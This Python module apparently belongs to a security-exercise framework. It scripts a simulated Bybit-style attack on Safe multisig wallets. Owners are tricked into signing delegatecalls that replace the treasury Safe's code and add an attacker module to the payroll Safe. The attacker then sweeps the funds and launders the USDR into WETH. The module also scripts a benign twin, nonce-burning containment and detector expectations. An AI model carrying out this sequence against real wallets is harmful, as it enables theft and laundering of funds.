"""
Owners sign what looks like a transfer and a batch, but it runs a stranger's code as their Safe, which is then emptied.

## Story
The attacker has changed the page on which the owners of a treasury prepare their transactions. It shows an ordinary
transfer; what their hardware wallets sign has operation 1: a delegatecall, in which the target's code runs as the Safe
itself. The treasury's Safe loses its own code that way, the shape of the Bybit theft of February 2025. The payroll Safe
of the same owners is given a module nobody chose: its batch goes to a contract that only looks like MultiSend.

## Steps
1. The attacker creates three contracts: a false token, the code that is to become the treasury's, a false MultiSend.
2. Two owners sign `transfer(address,uint256)` for the treasury, with operation 1. It overwrites slot 0, where the Safe
   keeps the address of its code. All that the owners see is that their transaction went through.
3. They sign a batch for the payroll Safe. It enters the attacker into the list of modules, without an event.
4. The attacker calls functions on the treasury that no Safe has, and sweeps USDR, WETH and ether.
5. As a module, and without any signature, he takes the USDR of the payroll Safe.
6. He turns USDR, which can be frozen, into WETH, half a million at a time.

## Honest twin
The owners move the same amounts from the treasury to a Safe whose keys are kept cold, with one batch through the real
MultiSend: a delegatecall too. They enable a planned module on the payroll Safe, and it pays from there.

## Containment
As long as what was signed is not on chain: the owners use its nonce for a transaction that does nothing, and what they
signed before reverts with GS026, as its signatures are for another nonce. Afterwards the treasury's Safe is lost, and
what is left is to have USDR frozen.

## References
- Safe contracts 1.5.0: SafeStorage, ModuleManager, errors GS013 to GS031.
- https://www.ic3.gov/PSA/2025/PSA250226
"""

from dataclasses import dataclass, replace

from tocsin.chain.contract import Account, Contract, Transaction, pay
from tocsin.exercise.play import Play
from tocsin.exercise.scenario import Expected, Scenario
from tocsin.exercise.scenarios._selling import sold
from tocsin.exercise.scene.people import ETHER
from tocsin.exercise.scene.safe import CALL, DELEGATE_CALL, SELECTOR_BYTES, SafeWallet, create
from tocsin.exercise.scene.tokens import DOLLAR, MILLION
from tocsin.exercise.taxonomy import Tag
from tocsin.exercise.truth import ETHER_TOKEN, Step, Truth, loss, step, told
from tocsin.model.priority import Priority

TREASURY_USDR, TREASURY_WETH, TREASURY_WEI = 2 * MILLION * DOLLAR, 500 * ETHER, 400 * ETHER
PAYROLL_USDR = MILLION * DOLLAR
LAUNDERED = MILLION * DOLLAR // 2
"""What is turned into WETH at a time."""


@dataclass(frozen=True, slots=True)
class Targets:
    """What the scenario is played on."""

    attacker: Account
    cold: Contract
    """Where the owners move their funds in the twin."""
    treasury: SafeWallet
    payroll: SafeWallet


@dataclass(frozen=True, slots=True)
class Trojans:
    """Contracts of the attacker's."""

    transfer: Contract
    backdoor: Contract
    batch: Contract


def prepare(play: Play) -> Targets:
    """Safes for the treasury and for payroll, and one to move funds to in the twin."""
    home, safe, tokens = play.home, play.scene.safe, play.scene.tokens
    first, second, third = safe.owners
    treasury = _another(play, (third, second, first), "treasury Safe")
    payroll = _another(play, (second, first, third), "payroll Safe")
    cold = _another(play, (third, first, second), "cold Safe")
    funds = (
        (tokens.usdr, treasury, TREASURY_USDR),
        (tokens.weth, treasury, TREASURY_WETH),
        (tokens.usdr, payroll, PAYROLL_USDR),
    )
    for token, to, amount in funds:
        home.do(token.by(play.scene.people.founder, "transfer", to, amount))
    home.do(pay(play.scene.people.founder, treasury, TREASURY_WEI))
    return Targets(home.account("attacker"), cold, replace(safe, wallet=treasury), replace(safe, wallet=payroll))


def _another(play: Play, owners: tuple[Account, ...], name: str) -> Contract:
    """A Safe of these owners: named in another order, they give it another address."""
    safe, founder = play.scene.safe, play.scene.people.founder
    parts = {"factory": safe.factory, "singleton": safe.singleton, "handler": safe.handler}
    made = create(play.home, founder, owners, **parts)
    play.home.names.note(made, name)
    return made


def attack(play: Play, targets: Targets) -> Truth:
    """Have it signed, sweep one Safe, pay from the other, launder."""
    home, attacker = play.home, targets.attacker
    trojans = _deploy(play, attacker)
    replaced = home.do(_false_transfer(play, targets, trojans))
    entered = home.do(_false_batch(play, targets, trojans))
    return told(
        scenario.id,
        attackers=(attacker, trojans.transfer, trojans.backdoor, trojans.batch),
        victims=(targets.treasury.wallet, targets.payroll.wallet),
        steps=(
            step("creates what looks like a token", home.creation(trojans.transfer)),
            step("creates the code that is to become the Safe's", home.creation(trojans.backdoor)),
            step("creates what looks like MultiSend", home.creation(trojans.batch)),
            step("the owners sign a transfer that replaces the code of their treasury's Safe", replaced),
            step("the owners sign a batch that makes the attacker a module of their payroll Safe", entered),
            *_swept(play, targets, trojans),
            _paid_out(play, targets),
            *_laundered(play, targets),
        ),
        knowable=replaced,
    )


def _deploy(play: Play, attacker: Account) -> Trojans:
    def create_one(name: str, called: str) -> Contract:
        return play.home.deploy(attacker, play.library.own(name), name=called)

    return Trojans(
        transfer=create_one("TrojanTransfer", "false token"),
        backdoor=create_one("BackdoorSingleton", "backdoor"),
        batch=create_one("TrojanBatch", "false MultiSend"),
    )


def _false_transfer(play: Play, targets: Targets, trojans: Trojans) -> Transaction:
    data = trojans.transfer.encode("transfer", trojans.backdoor, 0)
    return targets.treasury.executes(play.home, trojans.transfer, data, operation=DELEGATE_CALL)


def _false_batch(play: Play, targets: Targets, trojans: Trojans) -> Transaction:
    """What is in the batch does not matter: nothing reads it."""
    data = trojans.batch.encode("multiSend", _payment(play, targets))
    return targets.payroll.executes(play.home, trojans.batch, data, operation=DELEGATE_CALL)


def _payment(play: Play, targets: Targets) -> bytes:
    """All the payroll has, to the cold Safe."""
    return play.scene.tokens.usdr.encode("transfer", targets.cold, PAYROLL_USDR)


def _swept(play: Play, targets: Targets, trojans: Trojans) -> tuple[Step, ...]:
    """Only the USDR can still be frozen afterwards."""
    home, (usdr, weth), attacker = play.home, (play.scene.tokens.usdr, play.scene.tokens.weth), targets.attacker
    treasury = targets.treasury.wallet.at(trojans.backdoor.artefact)
    dollars, ether = (home.read(token, "balanceOf", treasury) for token in (usdr, weth))
    wei = home.balance(treasury)
    first, second = (home.do(treasury.by(attacker, "sweepERC20", token, attacker)) for token in (usdr, weth))
    third = home.do(treasury.by(attacker, "sweepETH", attacker))
    return (
        step("sweeps the treasury's USDR", first, lost=[loss(first, usdr, treasury, dollars)], gone=[]),
        step("sweeps the treasury's WETH", second, lost=[loss(second, weth, treasury, ether)]),
        step("sweeps the treasury's ether", third, lost=[loss(third, ETHER_TOKEN, treasury, wei)]),
    )


def _paid_out(play: Play, targets: Targets) -> Step:
    usdr, payroll, attacker = play.scene.tokens.usdr, targets.payroll.wallet, targets.attacker
    amount = play.home.read(usdr, "balanceOf", payroll)
    taking = usdr.encode("transfer", attacker, amount)
    paid = play.home.do(payroll.by(attacker, "execTransactionFromModule", usdr, 0, taking, CALL))
    lost = [loss(paid, usdr, payroll, amount)]
    return step("as a module, pays itself what the payroll holds", paid, lost=lost, gone=[])


def _laundered(play: Play, targets: Targets) -> tuple[Step, ...]:
    tokens, attacker = play.scene.tokens, targets.attacker
    approval, *swaps = sold(play, attacker, LAUNDERED)
    return (
        step("lets a router take its USDR", approval),
        *(
            step(
                "turns half a million USDR into WETH",
                each,
                gone=[loss(each, tokens.usdr, targets.treasury.wallet, LAUNDERED)],
            )
            for each in swaps
        ),
    )


def twin(play: Play, targets: Targets) -> None:
    """A real batch, and a module that the owners want."""
    home, tokens, cold, treasury = play.home, play.scene.tokens, targets.cold, targets.treasury
    held = [(token, home.read(token, "balanceOf", treasury.wallet)) for token in (tokens.usdr, tokens.weth)]
    home.do(treasury.batch(home, [(token, token.encode("transfer", cold, amount)) for token, amount in held]))
    home.do(treasury.executes(home, cold, b"", value=TREASURY_WEI))
    _planned_module(play, targets)


def _planned_module(play: Play, targets: Targets) -> None:
    """From now on the bot may make the payroll Safe transfer USDR; it does."""
    home, usdr, payroll, bot = play.home, play.scene.tokens.usdr, targets.payroll, targets.payroll.bot
    module = home.deploy(play.scene.people.founder, payroll.module.artefact, payroll.wallet, name="payroll module")
    payment = _payment(play, targets)
    play.knowledge.announce(home, payroll.wallet, "CHG-20: a module for the payroll", becomes=module)
    home.do(payroll.executes(home, payroll.wallet, payroll.wallet.encode("enableModule", module)))
    allowing = module.encode("allow", usdr, payment[:SELECTOR_BYTES], True)
    home.do(payroll.batch(home, [(module, allowing), (module, module.encode("setBot", bot, True))]))
    home.do(module.by(bot, "fire", usdr, payment))


def contain(play: Play, targets: Targets) -> str:
    """The owners use up the nonce of what they have signed."""
    home, treasury = play.home, targets.treasury
    signed = _false_transfer(play, targets, _deploy(play, targets.attacker))
    home.do(treasury.executes(home, treasury.wallet, b""))
    return home.refused(signed)


scenario = Scenario(
    id="safe-delegatecall",
    priority=Priority.P1,
    tags=(
        Tag.INPUT_VALIDATION,
        Tag.RESOURCE_DEVELOPMENT,
        Tag.DEFENSE_EVASION,
        Tag.EXECUTION,
        Tag.PERSISTENCE,
        Tag.IMPACT,
        Tag.FRAUD,
    ),
    expects=Expected(detectors=("multisig-change",)),
    prepare=prepare,
    attack=attack,
    twin=twin,
    contain=contain,
)
